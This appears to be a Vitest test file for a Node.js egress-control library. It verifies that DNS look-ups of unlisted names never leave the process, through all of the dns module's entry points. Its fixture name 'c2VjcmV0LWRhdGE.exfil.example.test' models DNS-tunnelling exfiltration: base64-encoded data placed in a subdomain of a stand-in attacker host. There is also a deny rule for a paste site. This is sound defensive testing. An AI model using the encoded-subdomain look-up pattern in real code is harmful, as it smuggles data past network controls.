/**
 * DNS as an exfiltration path: a look-up of a name no rule lists never leaves the process, through any
 * of the dns module's entry points (callback and promise forms, module functions and Resolver methods).
 * Proven by the counting DNS server: zero queries.
 */
import dns from 'node:dns';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { EgressError, install, uninstall } from '../src/index.js';
import {
  type EventSink,
  eventSink,
  loopbackRule,
  policyOf,
  rejection,
  startDnsServer,
  type TestDnsServer,
  useDnsServer,
} from './fixtures/harness.js';

let server: TestDnsServer;
let restoreServers: () => void;
let sink: EventSink;

const SECRET = 'c2VjcmV0LWRhdGE.exfil.example.test';

function installWith(doc: Record<string, unknown> = {}) {
  sink = eventSink();
  return install({
    policy: policyOf({
      allow: [loopbackRule('api', ['api.example.test']), loopbackRule('local', ['localhost'])],
      deny: [{ name: 'no-paste', hosts: ['paste.example.test'] }],
      ...doc,
    }),
    destination: sink,
  });
}

function callback<T>(fn: (cb: (error: Error | null, value: T) => void) => void): Promise<T> {
  return new Promise((resolve, reject) => fn((error, value) => (error ? reject(error) : resolve(value))));
}

function expectDenied(error: Error & Record<string, any>, host: string) {
  expect(error).toBeInstanceOf(EgressError);
  expect(error).toMatchObject({ code: 'EGRESS_ERR_DENIED', reason: 'host_not_allowed', hostname: host });
  expect(error.message).toContain('it is not looked up');
}

beforeAll(async () => {
  server = await startDnsServer({
    'api.example.test': [{ type: 'A', data: '127.0.0.1' }],
    '*.example.test': [{ type: 'A', data: '127.0.0.9' }],
  });
});

beforeEach(() => {
  restoreServers = useDnsServer(server);
});

afterEach(async () => {
  await uninstall();
  restoreServers();
  server.reset();
});

afterAll(() => server.close());

describe('a name no rule lists is never sent to a resolver', () => {
  it('dns.lookup', async () => {
    installWith();
    const error = await rejection(callback((cb) => dns.lookup(SECRET, cb)));
    expectDenied(error, SECRET);
    expect(sink.decisions()).toHaveLength(1);
    expect(sink.decisions()[0]).toMatchObject({
      'egress.hook': 'dns',
      'egress.decision': 'denied',
      'server.address': SECRET.toLowerCase(),
    });
  });

  it('dns.lookup with options', async () => {
    installWith();
    const error = await rejection(callback((cb) => dns.lookup(SECRET, { all: true, family: 4 }, cb)));
    expectDenied(error, SECRET);
  });

  it('dns.promises.lookup and the node:dns/promises named export', async () => {
    installWith();
    expectDenied(await rejection(dns.promises.lookup(SECRET)), SECRET);
    const { lookup } = await import('node:dns/promises');
    expectDenied(await rejection(lookup(SECRET)), SECRET);
  });

  it('dns.resolve4, dns.resolve, dns.resolveTxt, dns.resolveAny', async () => {
    installWith();
    expectDenied(await rejection(callback((cb) => dns.resolve4(SECRET, cb))), SECRET);
    expectDenied(await rejection(callback((cb) => dns.resolve(SECRET, 'A', cb))), SECRET);
    expectDenied(await rejection(callback((cb) => dns.resolveTxt(SECRET, cb))), SECRET);
    expectDenied(await rejection(callback((cb) => dns.resolveAny(SECRET, cb))), SECRET);
    expect(server.queries).toEqual([]);
  });

  it('new dns.Resolver().resolve4, including a resolver made before install()', async () => {
    const early = new dns.Resolver();
    early.setServers([`${server.address}:${server.port}`]);
    installWith();
    const late = new dns.Resolver();
    late.setServers([`${server.address}:${server.port}`]);
    expectDenied(await rejection(callback((cb) => early.resolve4(SECRET, cb))), SECRET);
    expectDenied(await rejection(callback((cb) => late.resolve4(SECRET, cb))), SECRET);
    expect(server.queries).toEqual([]);
  });

  it('dns.promises.Resolver and dns.promises.resolve*', async () => {
    installWith();
    const resolver = new dns.promises.Resolver();
    resolver.setServers([`${server.address}:${server.port}`]);
    expectDenied(await rejection(resolver.resolve4(SECRET)), SECRET);
    expectDenied(await rejection(resolver.resolveCname(SECRET)), SECRET);
    expectDenied(await rejection(dns.promises.resolve4(SECRET)), SECRET);
    expectDenied(await rejection(dns.promises.resolveTxt(SECRET)), SECRET);
    expect(server.queries).toEqual([]);
  });

  it('an explicitly denied name is not looked up either', async () => {
    installWith();
    const error = await rejection(dns.promises.resolve4('paste.example.test'));
    expect(error).toMatchObject({ code: 'EGRESS_ERR_DENIED', reason: 'explicit_deny', rule: 'no-paste' });
    expect(server.queries).toEqual([]);
  });

  it('an invalid name is denied, not "best-effort" resolved', async () => {
    installWith();
    const error = await rejection(dns.promises.resolve4('bad_name..example.test'));
    expect(error).toMatchObject({ code: 'EGRESS_ERR_DENIED', reason: 'invalid_destination' });
    expect(server.queries).toEqual([]);
  });
});

describe('listed names resolve', () => {
  it('dns.resolve4 and dns.promises.Resolver of a listed name reach the server', async () => {
    installWith();
    expect(await callback((cb) => dns.resolve4('api.example.test', cb))).toEqual(['127.0.0.1']);
    const resolver = new dns.promises.Resolver();
    resolver.setServers([`${server.address}:${server.port}`]);
    expect(await resolver.resolve4('API.Example.Test.')).toEqual(['127.0.0.1']);
    expect(server.queries.map((q) => q.name.toLowerCase())).toEqual(['api.example.test', 'api.example.test']);
    // Allowed look-ups are not egress of their own: no decision events.
    expect(sink.decisions()).toEqual([]);
  });

  it('dns.lookup of a listed name and of an IP literal', async () => {
    installWith();
    const local = await dns.promises.lookup('localhost', { family: 4 });
    expect(local.address).toBe('127.0.0.1');
    expect(await dns.promises.lookup('203.0.113.7')).toEqual({ address: '203.0.113.7', family: 4 });
  });

  it('lookupService and reverse take addresses and are left alone', async () => {
    installWith();
    expect(typeof dns.reverse).toBe('function');
    const error = await rejection(callback((cb) => dns.reverse('not an address', cb)));
    expect(error).not.toBeInstanceOf(EgressError);
  });

  it('uninstall() puts every function back', async () => {
    const before = {
      lookup: dns.lookup,
      resolve4: dns.resolve4,
      promisesLookup: dns.promises.lookup,
      resolverResolve4: dns.Resolver.prototype.resolve4,
    };
    installWith();
    expect(dns.lookup).not.toBe(before.lookup);
    await uninstall();
    expect({
      lookup: dns.lookup,
      resolve4: dns.resolve4,
      promisesLookup: dns.promises.lookup,
      resolverResolve4: dns.Resolver.prototype.resolve4,
    }).toEqual(before);
    expect(await callback((cb) => dns.resolve4(SECRET, cb))).toEqual(['127.0.0.9']);
  });
});
